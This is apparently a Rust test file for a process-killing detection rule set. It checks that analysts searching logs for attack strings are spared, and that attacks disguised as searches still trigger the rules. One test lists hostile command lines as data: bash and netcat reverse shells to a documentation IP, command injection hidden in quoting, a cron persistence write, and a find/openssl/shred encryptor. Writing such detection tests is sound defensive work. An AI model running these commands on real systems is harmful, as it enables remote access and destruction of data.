//! Whoever searches for the words of an attack, documents, commits or sends them is not stopped.
//!
//! Each command line that a rule must match is put, as mere words, into the lines that people and their tools start.

use serde_json::{Map, Value};

use crate::support::{cases, compiled, firing, kills};

/// (image, command line); `<attack>` is the attack as one argument, `<quoted>` the same as a shell or PowerShell wants it
/// within a line: see `quoted`.
const LINUX: &[(&str, &str)] = &[
    ("/usr/bin/grep", "grep -rF <attack> /var/log"),
    ("/usr/bin/grep", "grep -rFe <attack> /var/log"),
    ("/usr/bin/dash", "/bin/sh /usr/bin/zgrep <attack> /var/log/auth.log.2.gz"),
    ("/usr/bin/dash", "/bin/sh /bin/egrep <attack> /var/log/auth.log"),
    ("/usr/bin/dash", "/bin/sh -e /usr/bin/fgrep -r <attack> /home"),
    ("/usr/bin/bash", "/bin/bash /usr/bin/xzgrep -l <attack> /var/log/syslog.3.xz"),
    ("/usr/bin/bash", "/bin/bash /home/ann/bin/hunt.sh <attack>"),
    ("/bin/busybox", "grep -r <attack> /var/log"),
    ("/bin/busybox", "busybox grep -r <attack> /var/log"),
    ("/usr/bin/sudo", "sudo grep -r <attack> /var/log"),
    ("/usr/bin/sudo", "sudo zgrep <attack> /var/log/auth.log.2.gz"),
    ("/usr/bin/find", "find /var/log -name *.log -exec grep -lF <attack> {} +"),
    ("/usr/bin/xargs", "xargs -0 -n 1 grep -lF <attack>"),
    ("/usr/bin/git", "git commit -m <attack>"),
    ("/usr/bin/git", "git commit -am block <attack>"),
    ("/usr/bin/git", "git log --all --grep <attack>"),
    ("/usr/bin/bsd-mailx", "mail -s <attack> soc@trust.example"),
    ("/usr/bin/logger", "logger -t hunt <attack>"),
    ("/usr/bin/vim.basic", "vim +/<attack> /var/log/auth.log"),
    ("/usr/bin/less", "less -p <attack> /var/log/auth.log"),
    ("/usr/bin/journalctl", "journalctl -g <attack>"),
    ("/usr/bin/pgrep", "pgrep -af <attack>"),
    ("/usr/bin/ssh", "ssh ward7 grep -rF <quoted> /var/log"),
    ("/usr/bin/python3.11", "python3 /usr/bin/ansible all -a grep <quoted> /var/log/auth.log"),
    ("/usr/bin/python3.11", "/usr/bin/python3 -I hunt.py <attack>"),
    ("/usr/bin/perl", "/usr/bin/perl -w /usr/bin/ack <attack> /var/log"),
    ("/usr/bin/bash", "bash -c grep -rF <quoted> /var/log"),
    (
        "/usr/bin/bash",
        "bash -c sudo zgrep -h <quoted> /var/log/*.gz 2>/dev/null | sort | uniq -c > /root/hits.txt",
    ),
    (
        "/usr/bin/dash",
        "/bin/sh -c journalctl --since -1h | grep -F <quoted> | mail -s hits soc@trust.example",
    ),
    ("/usr/bin/bash", "bash -c for f in /var/log/*.gz; do zgrep -l <quoted> \"$f\"; done"),
    ("/usr/bin/bash", "bash -c cd /srv/notes && git commit -qam <quoted>"),
    ("/usr/bin/bash", "bash -c echo <quoted> >> /srv/notes/case-17.md"),
    ("/usr/bin/bash", "bash -c find /var/log -name '*.gz' -print0 | xargs -0 zgrep -l <quoted>"),
    ("/usr/bin/zsh", "zsh -c ps aux | grep <quoted>"),
];

/// Windows: `<attack>` as for Linux, quotation marks as the program's own arguments have them.
const WINDOWS: &[(&str, &str)] = &[
    (r"C:\Windows\System32\findstr.exe", r#"findstr /s /i /c:"<attack>" D:\cases\*.log"#),
    (r"C:\Windows\System32\findstr.exe", r"findstr <attack> D:\cases\commands.log"),
    (r"C:\Windows\System32\find.exe", r#"find /i "<attack>" D:\cases\commands.log"#),
    (r"C:\Windows\System32\cmd.exe", r#"cmd /c type D:\cases\commands.log | find "<attack>""#),
    (r"C:\Windows\System32\cmd.exe", r#"cmd /c findstr /i /c:"<attack>" D:\cases\commands.log"#),
    (
        r"C:\Windows\System32\wevtutil.exe",
        r#"wevtutil qe Security /f:text /q:"*[EventData[Data='<attack>']]""#,
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r"powershell.exe -NoProfile -Command Select-String -SimpleMatch '<quoted>' D:\cases\*.log",
    ),
    (
        r"C:\Program Files\PowerShell\7\pwsh.exe",
        r#"pwsh -c "Get-Content D:\cases\commands.log | Select-String '<quoted>'""#,
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#"powershell -c "Get-WinEvent -FilterHashtable @{LogName='Security'; Id=4688} | Where-Object { $_.Message -match '<quoted>' }""#,
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#"powershell -c "Get-WinEvent -LogName Security | ? { $_.Message -like '<quoted>' } | fl""#,
    ),
    (r"C:\Program Files\Git\cmd\git.exe", r#"git commit -m "<attack>""#),
    (r"C:\Program Files\Git\usr\bin\grep.exe", r#"grep -r "<attack>" /d/cases"#),
    (r"C:\Windows\System32\OpenSSH\ssh.exe", r#"ssh log01 "grep -r '<attack>' /var/log""#),
    (r"C:\Windows\System32\notepad.exe", r#"notepad.exe "D:\cases\<attack>.txt""#),
    (r"C:\Windows\System32\reg.exe", r#"reg query HKLM\SOFTWARE /s /f "<attack>""#),
    (
        r"C:\Windows\System32\wbem\WMIC.exe",
        r#"wmic process where "CommandLine like '%<attack>%'" get ProcessId,CommandLine"#,
    ),
    (r"C:\Program Files\Python312\python.exe", r#"python hunt.py "<attack>""#),
];

/// The attack within single quotes, as the shell at hand has it written.
fn quoted(product: &str, attack: &str) -> String {
    if product == "linux" {
        format!("'{}'", attack.replace('\'', r"'\''"))
    } else {
        attack.replace('\'', "''")
    }
}

#[test]
fn whoever_only_handles_the_words_of_an_attack_is_not_stopped() {
    let set = compiled();
    let mut scratch = set.scratch();
    let (mut faults, mut tried) = (Vec::new(), 0);
    for (index, file) in wardline_content::rules().iter().enumerate() {
        let rule = &set.rules()[index];
        if !kills(rule) || rule.log_source.category != "process_creation" {
            continue;
        }
        let forms = if rule.log_source.product == "linux" { LINUX } else { WINDOWS };
        for case in cases(file.path, file.tests).into_iter().filter(|c| c.expect_match) {
            let Some(attack) = case.fields.get("CommandLine").and_then(Value::as_str) else { continue };
            for (image, form) in forms {
                let line = if form.contains("<quoted>") {
                    form.replace("<quoted>", &quoted(&rule.log_source.product, attack))
                } else {
                    form.replace("<attack>", attack)
                };
                let mut fields = Map::new();
                fields.insert("Image".into(), (*image).into());
                fields.insert("CommandLine".into(), line.clone().into());
                tried += 1;
                for hit in firing(&set, &mut scratch, rule.log_source.clone(), &fields) {
                    if kills(&set.rules()[hit]) {
                        faults.push(format!(
                            "{} would kill {image}: {line}",
                            wardline_content::rules()[hit].path
                        ));
                    }
                }
            }
        }
    }
    assert!(faults.is_empty(), "{} of {tried}:\n{}", faults.len(), faults.join("\n"));
    assert!(tried > 1000, "only {tried} lines were tried");
}

/// What begins like a search and then attacks stays an attack.
#[test]
fn a_search_does_not_hide_an_attack() {
    const HIDDEN: &[&str] = &[
        "bash -c grep x /etc/passwd; bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
        "bash -c grep 'x' f | bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
        "bash -c grep x f && nc -e /bin/bash 203.0.113.9 443",
        r"bash -c grep \'; bash -i >& /dev/tcp/203.0.113.9/443 0>&1 \'",
        "bash -c grep # '\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1 #'",
        "bash -c grep \"$(bash -i >& /dev/tcp/203.0.113.9/443 0>&1)\" f",
        "bash -c grep `bash -i >& /dev/tcp/203.0.113.9/443 0>&1` f",
        "bash -c echo 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' | bash",
        "bash -c echo 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' > /etc/cron.d/ntp",
        "bash -c cat f | while read l; do bash -i >& /dev/tcp/203.0.113.9/443 0>&1; done",
        "bash -c /tmp/grep -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'",
        "bash -c grep x & bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
        "bash -c grep \"\\\" ; bash -i >& /dev/tcp/203.0.113.9/443 0>&1 #\" ' \" '; bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
        "sh -c ls | xargs -I{} sh -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'",
    ];
    const ENCRYPTOR: &str = "find /srv -type f -exec grep -q . {} ; -exec openssl enc -aes-256-cbc -k k -in {} -out {}.x ; -exec shred -u {} ;";
    let set = compiled();
    let mut scratch = set.scratch();
    let shells = HIDDEN.iter().map(|line| ("/usr/bin/bash", *line));
    for (image, line) in shells.chain([("/usr/bin/find", ENCRYPTOR)]) {
        let mut fields = Map::new();
        fields.insert("Image".into(), image.into());
        fields.insert("CommandLine".into(), line.into());
        let hits = firing(&set, &mut scratch, crate::support::source("linux", "process_creation"), &fields);
        assert!(hits.iter().any(|h| kills(&set.rules()[*h])), "not stopped: {line}");
    }
}

/// A copy that differs would spare a search in one rule and not in the next.
#[test]
fn the_rules_on_shells_have_the_same_selection() {
    let mut copies = std::collections::BTreeMap::new();
    for file in wardline_content::rules().iter().filter(|f| f.path.starts_with("linux/")) {
        if let Some((_, rest)) = file.text.split_once("    words_only:\n") {
            let own: Vec<&str> = rest.lines().take_while(|l| l.starts_with("      ")).collect();
            copies.entry(own).or_insert_with(Vec::new).push(file.path);
        }
    }
    assert_eq!(copies.len(), 1, "the selections differ: {:?}", copies.values());
}
